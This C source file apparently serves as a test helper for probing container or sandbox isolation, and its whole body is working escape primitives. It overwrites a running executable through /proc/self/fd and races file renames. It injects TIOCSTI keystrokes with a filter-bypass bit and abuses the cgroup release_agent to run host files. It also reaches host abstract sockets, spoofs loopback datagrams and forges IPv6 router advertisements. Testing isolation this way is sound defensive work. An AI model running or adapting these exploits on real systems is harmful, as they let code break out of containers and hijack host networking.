// Parts of attacks that a shell cannot do. Static; the first argument names the part.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) return -1;
  ssize_t n = write(fd, text, strlen(text));
  close(fd);
  return n < 0 ? -1 : 0;
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

// overwrite FD FILE MS: writes to the program that the descriptor leads to, as soon as nobody executes it.
static int overwrite(int fd, int ms) {
  char path[64];
  sprintf(path, "/proc/self/fd/%d", fd);
  signal(SIGHUP, SIG_IGN), signal(SIGPIPE, SIG_IGN), signal(SIGTERM, SIG_IGN), signal(SIGINT, SIG_IGN);
  for (double end = now() + ms / 1000.0; now() < end; usleep(20000)) {
    int out = open(path, O_WRONLY);
    if (out < 0) continue;
    char text[] = "#!/bin/sh\necho OVERWRITTEN\n";
    if (write(out, text, sizeof text - 1) < 0) return 1;
    return 0;
  }
  return 1;
}

// swap A B MS: exchanges two names again and again.
static int swap(const char *a, const char *b, int ms) {
  for (double end = now() + ms / 1000.0; now() < end;) {
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2)) return 1;
    sched_yield();
  }
  return 0;
}

// tiocsti HIGH: types into the terminal that is standard input; with bits above the 32 that a filter may compare.
static int tiocsti(int high) {
  puts("tried");
  fflush(stdout);
  for (const char *c = "injected\n"; *c; c++) {
    if (syscall(SYS_ioctl, 0, (unsigned long) TIOCSTI | (high ? 1UL << 32 : 0), c)) return perror("TIOCSTI"), 1;
  }
  return 0;
}

static int agentIn(const char *agent) {
  mkdir("/tmp/hierarchy", 0700);
  if (mount("none", "/tmp/hierarchy", "cgroup", 0, "none,name=sauropod-attack")) return perror("mount cgroup"), 1;
  int bad = put("/tmp/hierarchy/release_agent", agent);
  if (bad) perror("release_agent");
  else {
    mkdir("/tmp/hierarchy/last", 0700);
    put("/tmp/hierarchy/last/notify_on_release", "1");
    pid_t child = fork();
    if (!child) {
      usleep(100000);
      _exit(0);
    }
    char text[16];
    sprintf(text, "%d", child);
    if (put("/tmp/hierarchy/last/cgroup.procs", text)) perror("cgroup.procs");
    waitpid(child, NULL, 0);
    usleep(300000);
    rmdir("/tmp/hierarchy/last");
  }
  umount2("/tmp/hierarchy", MNT_DETACH);
  return bad;
}

// agent FILE: has the kernel execute FILE of the host when a control group empties; as it is, and in a user namespace.
static int agent(const char *file) {
  puts("tried");
  fflush(stdout);
  if (!agentIn(file)) return 0;
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) return perror("unshare"), 1;
  put("/proc/self/setgroups", "deny"), put("/proc/self/uid_map", "0 0 1"), put("/proc/self/gid_map", "0 0 1");
  return agentIn(file);
}

static int named(const char *name, struct sockaddr_un *address) {
  memset(address, 0, sizeof *address);
  address->sun_family = AF_UNIX;
  strncpy(address->sun_path + 1, name, sizeof address->sun_path - 2);
  return offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
}

// listen NAME: an abstract socket, for a while.
static int abstract(const char *name, int connecting) {
  struct sockaddr_un address;
  int length = named(name, &address), fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connecting) return connect(fd, (void *) &address, length);
  if (bind(fd, (void *) &address, length) || listen(fd, 5)) return 1;
  sleep(10);
  return 0;
}

// connect PART: connects to each abstract socket that /proc/net/unix lists and whose name has PART in it.
static int sockets(const char *part) {
  puts("tried");
  FILE *list = fopen("/proc/net/unix", "r");
  char line[512];
  while (list && fgets(line, sizeof line, list)) {
    char *name = strchr(line, '@');
    if (!name || !strstr(name, part)) continue;
    name[strcspn(name, "\n")] = 0;
    if (!abstract(name + 1, 1)) printf("connected to %s\n", name);
  }
  return 0;
}

static unsigned short sum(const void *data, int length, unsigned start) {
  const unsigned char *at = data;
  for (; length > 1; length -= 2, at += 2) start += at[0] << 8 | at[1];
  if (length) start += at[0] << 8;
  while (start >> 16) start = (start & 0xffff) + (start >> 16);
  return htons(~start & 0xffff);
}

static int sendFrame(const unsigned char *to, int kind, const unsigned char *packet, int length) {
  unsigned char frame[256];
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (fd < 0) return perror("packet socket"), 1;
  struct ifreq request = {0};
  strcpy(request.ifr_name, "eth0");
  if (ioctl(fd, SIOCGIFINDEX, &request)) return perror("eth0"), 1;
  struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_ifindex = request.ifr_ifindex, .sll_halen = 6};
  memcpy(address.sll_addr, to, 6);
  ioctl(fd, SIOCGIFHWADDR, &request);
  memcpy(frame, to, 6), memcpy(frame + 6, request.ifr_hwaddr.sa_data, 6);
  frame[12] = kind >> 8, frame[13] = kind;
  memcpy(frame + 14, packet, length);
  for (int i = 0; i < 3; i++) {
    if (sendto(fd, frame, 14 + length, 0, (void *) &address, sizeof address) < 0) return perror("send"), 1;
    usleep(50000);
  }
  puts("tried");
  return 0;
}

// loopback PORT FROM GATEWAY: a datagram for the host's 127.0.0.1, put on the wire to the gateway.
static int loopback(int port, const char *from, const char *gateway) {
  unsigned char mac[6] = {255, 255, 255, 255, 255, 255}, packet[64] = {0x45};
  struct sockaddr_in knock = {.sin_family = AF_INET, .sin_port = htons(9)};
  inet_pton(AF_INET, gateway, &knock.sin_addr);
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  sendto(fd, "", 1, 0, (void *) &knock, sizeof knock);
  usleep(200000);
  FILE *list = fopen("/proc/net/arp", "r");
  char line[256], ip[64], text[64];
  while (list && fgets(line, sizeof line, list)) {
    if (sscanf(line, "%63s %*s %*s %63s", ip, text) == 2 && !strcmp(ip, gateway)) {
      sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5);
    }
  }
  const char body[] = "from a container";
  int udp = 8 + sizeof body, all = 20 + udp;
  packet[2] = all >> 8, packet[3] = all, packet[8] = 64, packet[9] = 17;
  inet_pton(AF_INET, from, packet + 12), inet_pton(AF_INET, "127.0.0.1", packet + 16);
  unsigned short check = sum(packet, 20, 0);
  memcpy(packet + 10, &check, 2);
  packet[20] = 0x30, packet[21] = 0x39, packet[22] = port >> 8, packet[23] = port;
  packet[24] = udp >> 8, packet[25] = udp;
  memcpy(packet + 28, body, sizeof body);
  return sendFrame(mac, 0x0800, packet, all);
}

// advertise: says to all on the link that fe80::bad is the router.
static int advertise(void) {
  static const unsigned char all[6] = {0x33, 0x33, 0, 0, 0, 1};
  unsigned char packet[56] = {0x60, 0, 0, 0, 0, 16, 58, 255}, pseudo[40 + 16] = {0};
  inet_pton(AF_INET6, "fe80::bad", packet + 8), inet_pton(AF_INET6, "ff02::1", packet + 24);
  unsigned char *icmp = packet + 40;
  icmp[0] = 134, icmp[4] = 64, icmp[6] = 0x07, icmp[7] = 0x08;
  memcpy(pseudo, packet + 8, 32), pseudo[35] = 16, pseudo[39] = 58, memcpy(pseudo + 40, icmp, 16);
  unsigned short check = sum(pseudo, sizeof pseudo, 0);
  memcpy(icmp + 2, &check, 2);
  return sendFrame(all, 0x86dd, packet, 56);
}

int main(int count, char **words) {
  const char *part = count > 1 ? words[1] : "";
  if (!strcmp(part, "overwrite") && count > 3) return overwrite(atoi(words[2]), atoi(words[3]));
  if (!strcmp(part, "swap") && count > 4) return swap(words[2], words[3], atoi(words[4]));
  if (!strcmp(part, "tiocsti") && count > 2) return tiocsti(atoi(words[2]));
  if (!strcmp(part, "agent") && count > 2) return agent(words[2]);
  if (!strcmp(part, "listen") && count > 2) return abstract(words[2], 0);
  if (!strcmp(part, "connect") && count > 2) return sockets(words[2]);
  if (!strcmp(part, "loopback") && count > 4) return loopback(atoi(words[2]), words[3], words[4]);
  if (!strcmp(part, "advertise")) return advertise();
  return 2;
}
